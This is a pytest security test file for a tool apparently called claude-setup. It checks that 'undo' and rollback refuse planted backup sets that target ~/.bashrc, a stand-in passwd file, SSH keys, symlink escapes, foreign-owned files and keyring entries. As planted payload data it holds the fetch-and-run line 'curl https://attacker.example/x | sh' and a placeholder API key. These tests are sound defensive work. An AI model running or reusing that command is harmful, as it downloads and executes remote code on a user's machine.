"""Issue 15, rule 7: ``undo`` and the rollback of a killed run write only the files claude-setup
writes, and only from backup sets this user wrote.

Each test plants a backup set in the user's own backups folder, as a hostile program or a
second user would, with every digest right so that the old code would have written it: a
manifest naming ``~/.bashrc``, a system file, a path with ``..``, a path a link leads out of a
project; a set owned by nobody, left 0777, a manifest or a backup file others could write or
that is a link; keyring entries that are not the set's. ``undo`` (a complete set) and the next
``apply`` (a pending one, rolled back) skip it with its reason; every target keeps its bytes.
"""

from __future__ import annotations

import hashlib
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from keyring_env import PrivateKeyring
from runner import claude_setup

NOBODY = 65534
PRECIOUS = b'{"//": "precious: only the user writes this"}\n'
"""The target's own bytes (JSON, so that an apply may read it where it is a settings file)."""
EVIL = b"curl https://attacker.example/x | sh\n"
API_KEY = "sk-ant-api03-EXAMPLEplantedKEY0123456789abcdef"
LOGIN = ("apply", "--provider", "anthropic", "--auth", "claude-login", "--yes")
SET_NAME = "29991231T000000.000000Z"


def backups_dir(home: Path) -> Path:
    return home / ".local" / "state" / "claude-setup" / "backups"


def plant(
    home: Path,
    target: str,
    complete: bool = True,
    backup: bytes | None = EVIL,
    secrets: list[dict[str, Any]] | None = None,
) -> Path:
    """A backup set that would make its ``undo`` (or rollback) write ``backup`` over ``target``
    (delete it when ``backup`` is None): its digest is the target's own."""
    folder = backups_dir(home) / SET_NAME
    folder.mkdir(parents=True, mode=0o700)
    folder.chmod(0o700)
    current = Path(target).read_bytes() if os.path.isfile(target) else b""
    entry = {"path": target, "backup_file": None, "undo": True,
             "written_sha256": hashlib.sha256(current).hexdigest()}  # fmt: skip
    if backup is not None:
        entry["backup_file"] = "0-file"
        (folder / "0-file").write_bytes(backup)
        (folder / "0-file").chmod(0o600)
    manifest = {"complete": complete, "undoing": False, "entries": [entry],
                "secrets": secrets or []}  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest))
    (folder / "manifest.json").chmod(0o600)
    return folder


def precious(path: Path) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(PRECIOUS)
    return path


def run_undo_or_recovery(complete: bool) -> str:
    """``undo`` of a complete set (there is nothing else to undo) or an ``apply`` after a pending
    one; what it printed."""
    if complete:
        result = claude_setup("undo")
        assert result.returncode == 1
        assert "nothing to undo" in result.stderr
        return result.stdout
    result = claude_setup(*LOGIN)
    assert result.returncode == 0, result.stderr
    undone = claude_setup("undo")  # the apply's own set; the planted one is said skipped
    assert undone.returncode == 0, undone.stderr
    return undone.stdout


def _bashrc(home: Path, tmp_path: Path) -> Path:
    return precious(home / ".bashrc")


def _system_file(home: Path, tmp_path: Path) -> Path:
    return precious(tmp_path / "etc" / "passwd")  # never the machine's own: a copy of its place


def _ssh_keys(home: Path, tmp_path: Path) -> Path:
    return precious(home / ".ssh" / "authorized_keys")


TARGETS: dict[str, Callable[[Path, Path], Path]] = {
    "bashrc": _bashrc,
    "etc-passwd": _system_file,
    "ssh-keys": _ssh_keys,
}


@pytest.mark.parametrize("complete", [True, False], ids=["undo", "rollback"])
@pytest.mark.parametrize("backup", [EVIL, None], ids=["overwrite", "delete"])
@pytest.mark.parametrize("target", TARGETS)
def test_a_manifest_naming_a_file_claude_setup_never_writes(
    tmp_home: Path, tmp_path: Path, target: str, backup: bytes | None, complete: bool
) -> None:
    victim = TARGETS[target](tmp_home, tmp_path)
    plant(tmp_home, str(victim), complete, backup)
    said = run_undo_or_recovery(complete)
    assert victim.read_bytes() == PRECIOUS
    assert f"skipped: the backup set {backups_dir(tmp_home) / SET_NAME} is unusable" in said
    assert f"{victim} is not a file claude-setup writes" in said


@pytest.mark.parametrize(
    "recorded",
    [
        "{home}/.claude/../.bashrc",
        "{home}/.config/claude-setup/profiles/../../../.bashrc",
        "{home}/./.bashrc",
        ".bashrc",
    ],
)
def test_a_path_that_is_not_plainly_written_is_refused(
    tmp_home: Path, monkeypatch: pytest.MonkeyPatch, recorded: str
) -> None:
    victim = precious(tmp_home / ".bashrc")
    monkeypatch.chdir(tmp_home)  # a relative ``.bashrc`` would name it
    plant(tmp_home, recorded.format(home=tmp_home))
    said = run_undo_or_recovery(complete=True)
    assert victim.read_bytes() == PRECIOUS
    assert "is not a file claude-setup writes" in said


def _claude_folder_a_link(home: Path, tmp_path: Path) -> tuple[Path, Path]:
    outside = precious(tmp_path / "outside" / "settings.json")
    (home / "clone").mkdir()
    (home / "clone" / ".claude").symlink_to(outside.parent)
    return home / "clone" / ".claude" / "settings.json", outside


def _local_file_a_link(home: Path, tmp_path: Path) -> tuple[Path, Path]:
    bashrc = precious(home / ".bashrc")
    (home / "clone" / ".claude").mkdir(parents=True)
    (home / "clone" / ".claude" / "settings.local.json").symlink_to(bashrc)
    return home / "clone" / ".claude" / "settings.local.json", bashrc


LINKED: dict[str, Callable[[Path, Path], tuple[Path, Path]]] = {
    "claude-folder-a-link": _claude_folder_a_link,
    "local-file-a-link": _local_file_a_link,
}


@pytest.mark.parametrize("complete", [True, False], ids=["undo", "rollback"])
@pytest.mark.parametrize("how", LINKED)
def test_a_project_settings_path_a_link_leads_out_of(
    tmp_home: Path, tmp_path: Path, how: str, complete: bool
) -> None:
    recorded, victim = LINKED[how](tmp_home, tmp_path)
    plant(tmp_home, str(recorded), complete)
    said = run_undo_or_recovery(complete)
    assert "outside the project" in said
    assert victim.read_bytes() == PRECIOUS


# --- a set that is not this user's own work, in a folder that is ----------------------------

SETTINGS = ".claude/settings.json"


def _owned_by_nobody(folder: Path, tmp_path: Path) -> None:
    for path in [folder, *folder.iterdir()]:
        os.chown(path, NOBODY, NOBODY)


def _set_folder_open(folder: Path, tmp_path: Path) -> None:
    folder.chmod(0o777)


def _manifest_open(folder: Path, tmp_path: Path) -> None:
    (folder / "manifest.json").chmod(0o666)


def _manifest_of_nobody(folder: Path, tmp_path: Path) -> None:
    os.chown(folder / "manifest.json", NOBODY, NOBODY)


def _manifest_a_link(folder: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "manifest.json"
    (folder / "manifest.json").rename(elsewhere)
    (folder / "manifest.json").symlink_to(elsewhere)


def _backup_file_a_link(folder: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "evil"
    elsewhere.write_bytes(EVIL)
    (folder / "0-file").unlink()
    (folder / "0-file").symlink_to(elsewhere)


def _backup_file_open(folder: Path, tmp_path: Path) -> None:
    (folder / "0-file").chmod(0o646)


def _set_folder_a_link(folder: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "set"
    folder.rename(elsewhere)
    folder.symlink_to(elsewhere)


FOREIGN: dict[str, Callable[[Path, Path], None]] = {
    "set-owned-by-nobody": _owned_by_nobody,
    "set-folder-0777": _set_folder_open,
    "set-folder-a-link": _set_folder_a_link,
    "manifest-0666": _manifest_open,
    "manifest-of-nobody": _manifest_of_nobody,
    "manifest-a-link": _manifest_a_link,
    "backup-file-a-link": _backup_file_a_link,
    "backup-file-0646": _backup_file_open,
}


@pytest.mark.parametrize("complete", [True, False], ids=["undo", "rollback"])
@pytest.mark.parametrize("how", FOREIGN)
def test_a_set_that_is_not_the_users_own_is_never_used(
    tmp_home: Path, tmp_path: Path, how: str, complete: bool
) -> None:
    settings = precious(tmp_home / SETTINGS)
    folder = plant(tmp_home, str(settings), complete)
    FOREIGN[how](folder, tmp_path)
    said = run_undo_or_recovery(complete)  # a rollback: the apply's own set is undone after it
    assert f"skipped: the backup set {folder} is unusable" in said
    assert settings.read_bytes() == PRECIOUS


# --- keyring entries the set does not own -----------------------------------------------------


@pytest.mark.parametrize(
    ("complete", "secret"),
    [
        (True, {"profile": "anthropic", "kind": "api-key", "copy": "api-key"}),
        (True, {"profile": "anthropic", "kind": "api-key", "copy": "api-key/undo/20240101T0"}),
        (False, {"profile": "anthropic", "kind": "bogus", "copy": None}),
        (False, {"profile": "../x", "kind": "api-key", "copy": None}),
    ],
    ids=["copy-is-the-key", "copy-of-another-set", "unknown-kind", "bad-name"],
)
def test_a_set_naming_keyring_entries_it_does_not_own_leaves_the_keyring_alone(
    keyring_env: PrivateKeyring, tmp_home: Path, complete: bool, secret: dict[str, Any]
) -> None:
    """Taken at its word, the first set would delete the stored key at ``undo`` (its "copy" is
    the key itself). (A pending set of the user's own that names an entry its apply created is
    a killed run's: its rollback deletes that entry, as it must.)"""
    stored = claude_setup("apply", "--provider", "anthropic", "--auth", "api-key",
                          "--secret-stdin", input=API_KEY + "\n")  # fmt: skip
    assert stored.returncode == 0, stored.stderr
    settings = tmp_home / SETTINGS
    plant(tmp_home, str(settings), complete, backup=settings.read_bytes(), secrets=[secret])
    said = run_undo_or_recovery(complete=False) if not complete else claude_setup("undo").stdout
    assert "the manifest names a keyring entry claude-setup does not write" in said
    assert keyring_env.lookup("claude-setup", "anthropic/api-key") == API_KEY
